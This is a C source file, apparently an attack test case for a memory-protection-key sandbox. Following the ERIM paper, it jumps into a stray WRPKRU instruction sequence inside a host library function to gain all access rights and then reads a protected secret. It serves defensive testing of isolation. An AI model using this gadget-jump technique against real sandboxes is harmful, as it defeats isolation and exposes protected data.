/* Tries: to jump into a call of the host's whose distance spells WRPKRU
 * From: ERIM (Vahldiek-Oberwagner et al., USENIX Security 2019): occurrences that span
 *   instructions' fields
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, host-code */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
/* WRPKRU with all rights asked for, wherever it is, and back by the return that follows. */
static void LOCAL(open)(uint64_t code)
{
    __asm__ volatile("xor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%0"
                     :
                     : "r"(code)
                     : "rax", "rcx", "rdx", "memory");
}

FOREIGN(run)
{
    if (at->gate_start && at->stray_code)
        LOCAL(open)(at->stray_code);
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
#include <dlfcn.h>

static void *LOCAL(handle);

HOST(before)
{
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "%.*s/libogunlucky.so",
             (int)(strrchr(host->library_path, '/') - host->library_path), host->library_path);
    LOCAL(handle) = dlopen(path, RTLD_NOW);
    const char *call = LOCAL(handle) ? dlsym(LOCAL(handle), "unlucky") : NULL;
    if (!call)
        host_cannot(host, "its library cannot be loaded");
    else
        host->places[PLACE_stray_code] = (uintptr_t)call + 5;
}

HOST(after)
{
    (void)host;
    dlclose(LOCAL(handle));
}
#endif
